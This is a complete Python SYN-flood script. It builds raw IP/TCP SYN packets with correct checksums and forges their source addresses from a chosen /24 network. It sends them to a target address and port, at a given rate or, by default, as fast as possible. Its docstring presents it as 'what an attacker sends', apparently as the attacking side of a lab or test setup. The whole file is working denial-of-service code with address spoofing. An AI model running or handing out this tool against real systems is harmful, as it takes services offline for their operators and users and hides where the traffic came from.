"""SYNs without end: what an attacker sends. Runs at the server outside, with nothing but Python.

    syn_flood.py NETWORK ADDRESS PORT COUNT [RATE]     from random addresses and ports of the /24, so many a second; says "sent" and how many
"""

from __future__ import annotations

import ipaddress
import random
import socket
import struct
import sys
import time

IP = struct.Struct("!BBHHHBBH4s4s")
TCP = struct.Struct("!HHIIBBHHH")
SYN, WORDS = 2, 5


def summed(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, destination: bytes, port: int) -> bytes:
    words = (random.randrange(1024, 65536), port, random.getrandbits(32), 0, WORDS << 4, SYN, 64240)
    pseudo = source + destination + struct.pack("!HH", socket.IPPROTO_TCP, TCP.size)
    segment = TCP.pack(*words, summed(pseudo + TCP.pack(*words, 0, 0)), 0)
    head = (0x45, 0, IP.size + TCP.size, random.getrandbits(16), 0x4000, 64, socket.IPPROTO_TCP, 0, source, destination)
    return IP.pack(*head) + segment


def flood(network: str, address: str, port: int, count: int, rate: float) -> None:
    hosts = [host.packed for host in ipaddress.IPv4Network(network).hosts()]
    destination = ipaddress.IPv4Address(address).packed
    began = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(count):
            raw.sendto(syn(random.choice(hosts), destination, port), (address, 0))
            ahead = number / rate - (time.monotonic() - began)
            if ahead > 0.01:
                time.sleep(ahead)
    print("sent", count, flush=True)


if __name__ == "__main__":
    its_network, its_address, its_port, its_count, *its_rate = sys.argv[1:]
    flood(its_network, its_address, int(its_port), int(its_count), float(its_rate[0]) if its_rate else 1e9)
